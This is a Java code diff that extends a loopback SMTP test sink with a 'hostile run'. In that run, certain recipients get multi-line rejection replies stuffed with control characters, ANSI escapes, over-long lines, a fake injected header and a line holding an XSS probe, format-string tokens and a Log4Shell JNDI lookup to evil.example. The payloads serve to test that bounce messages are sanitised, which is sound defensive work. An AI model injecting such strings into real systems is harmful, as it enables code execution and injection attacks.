@@ -32,6 +32,82 @@ final class CountingSink implements AutoCloseable {
     /** Relayed copies that came without the X-DCC header (dccifd unusable) or without a BMI verdict (Rspamd down). */
     final AtomicInteger withoutDcc = new AtomicInteger();
     final AtomicInteger withoutBmi = new AtomicInteger();
+    /** Every mail's envelope and what was seen in it, when {@link #recordEnvelopes()} is on (the hostile run). */
+    final java.util.List<Received> envelopes = java.util.Collections.synchronizedList(new java.util.ArrayList<>());
+    private volatile boolean recordEnvelopes;
+    /** Replies given to hostile recipients (local part {@code hostile-rcpt-*}, {@code hostile-data-*}, {@code hostile-huge-*}). */
+    final AtomicInteger hostileReplies = new AtomicInteger();
+
+    /** One mail as the sink received it. */
+    static final class Received {
+        final String from;
+        final java.util.List<String> recipients;
+        final String messageId;
+        final boolean bounce;
+        /** Octets no bounce or relayed header should carry from outside text: C0 controls other than TAB, CR, LF; DEL. */
+        final int controlOctets;
+        final int size;
+        final String text;
+
+        Received(String from, java.util.List<String> recipients, String messageId, boolean bounce, int controlOctets, int size, String text) {
+            this.from = from;
+            this.recipients = recipients;
+            this.messageId = messageId;
+            this.bounce = bounce;
+            this.controlOctets = controlOctets;
+            this.size = size;
+            this.text = text;
+        }
+    }
+
+    /** Keeps every mail's envelope and text (the hostile run's mails are few). */
+    CountingSink recordEnvelopes() {
+        recordEnvelopes = true;
+        return this;
+    }
+
+    /**
+     * What the sink answers a hostile recipient: {@code hostile-rcpt-*} a multi-line 550 to RCPT full of control
+     * characters, long lines and 8-bit junk; {@code hostile-huge-*} a 550 as large as the pack reads (90 lines, about 27 KiB:
+     * docs/security-dsn.md caps a reply at 100 lines of 2048 bytes and 32 KiB, and defers a longer one);
+     * {@code hostile-data-*} is accepted at RCPT and refused after DATA with the same junk. Null for anyone else.
+     */
+    static String hostileReply(String rcptLine, boolean afterData) {
+        String l = rcptLine.toLowerCase(Locale.ROOT);
+        boolean huge = l.contains("<hostile-huge-");
+        if (!afterData && (l.contains("<hostile-rcpt-") || huge)) {
+            return junkReply(huge ? 90 : 40, "550");
+        }
+        if (afterData && l.contains("<hostile-data-")) {
+            return junkReply(40, "554");
+        }
+        return null;
+    }
+
+    private static String junkReply(int lines, String code) {
+        StringBuilder sb = new StringBuilder();
+        for (int i = 0; i < lines; i++) {
+            String text;
+            switch (i % 5) {
+                case 0:
+                    text = "5.1.1 \033[31mred\033[0m bell\007 del\177 nul\000 vt\013";
+                    break;
+                case 1:
+                    text = "x".repeat(i < 5 ? 1500 : 290);
+                    break;
+                case 2:
+                    text = "8-bit \u00e9\u00ff\u0080 and a fake header: X-Injected: yes";
+                    break;
+                case 3:
+                    text = "<script>alert(1)</script> %s %n ${jndi:ldap://evil.example/a}";
+                    break;
+                default:
+                    text = "Recipient address rejected: " + "user unknown ".repeat(i % 7 + 1);
+            }
+            sb.append(code).append(i == lines - 1 ? ' ' : '-').append(text).append("\r\n");
+        }
+        return sb.substring(0, sb.length() - 2);
+    }
 
     CountingSink() throws IOException {
         server = new ServerSocket(0, 200, InetAddress.getLoopbackAddress());
@@ -54,6 +130,8 @@ final class CountingSink implements AutoCloseable {
         dsns.set(0);
         withoutDcc.set(0);
         withoutBmi.set(0);
+        envelopes.clear();
+        hostileReplies.set(0);
     }
 
     private void acceptLoop() {
@@ -76,6 +154,7 @@ final class CountingSink implements AutoCloseable {
             OutputStream out = s.getOutputStream();
             write(out, "220 sink.test ESMTP counting sink");
             String from = null;
+            java.util.List<String> rcpts = new java.util.ArrayList<>();
             String line;
             while ((line = in.readLine()) != null) {
                 String cmd = line.length() >= 4 ? line.substring(0, 4).toUpperCase(Locale.ROOT) : line.toUpperCase(Locale.ROOT);
@@ -88,19 +167,37 @@ final class CountingSink implements AutoCloseable {
                         break;
                     case "MAIL":
                         from = line;
+                        rcpts = new java.util.ArrayList<>();
                         write(out, "250 OK");
                         break;
-                    case "RCPT":
-                        write(out, "250 OK");
+                    case "RCPT": {
+                        String hostile = hostileReply(line, false);
+                        if (hostile != null) {
+                            hostileReplies.incrementAndGet();
+                            write(out, hostile);
+                        } else {
+                            rcpts.add(line);
+                            write(out, "250 OK");
+                        }
                         break;
+                    }
                     case "DATA":
                         write(out, "354 go ahead");
                         StringBuilder data = new StringBuilder(8192);
                         while ((line = in.readLine()) != null && !line.equals(".")) {
                             data.append(line.startsWith("..") ? line.substring(1) : line).append("\r\n");
                         }
-                        record(from, data);
-                        write(out, "250 OK queued");
+                        String refused = null;
+                        for (String r : rcpts) {
+                            refused = refused != null ? refused : hostileReply(r, true);
+                        }
+                        if (refused != null) {
+                            hostileReplies.incrementAndGet();
+                            write(out, refused);
+                        } else {
+                            record(from, rcpts, data);
+                            write(out, "250 OK queued");
+                        }
                         break;
                     case "QUIT":
                         write(out, "221 bye");
@@ -114,7 +211,7 @@ final class CountingSink implements AutoCloseable {
         }
     }
 
-    private void record(String from, StringBuilder data) {
+    private void record(String from, java.util.List<String> rcpts, StringBuilder data) {
         total.incrementAndGet();
         if (from != null && from.contains("<SRS0=")) {
             srsSenders.incrementAndGet();
@@ -145,6 +242,17 @@ final class CountingSink implements AutoCloseable {
             mentioned.forEach(id -> bounced.merge(id, 1, Integer::sum));
         } else if (own != null) {
             received.merge(own, 1, Integer::sum);
+        }
+        if (recordEnvelopes) {
+            int controls = 0;
+            for (int i = 0; i < data.length(); i++) {
+                char c = data.charAt(i);
+                if ((c < 0x20 && c != '\t' && c != '\r' && c != '\n') || c == 0x7f) {
+                    controls++;
+                }
+            }
+            boolean bounce = from != null && from.replace(" ", "").toUpperCase(Locale.ROOT).startsWith("MAILFROM:<>");
+            envelopes.add(new Received(from, java.util.List.copyOf(rcpts), own, bounce, controls, data.length(), data.toString()));
         }
     }
 
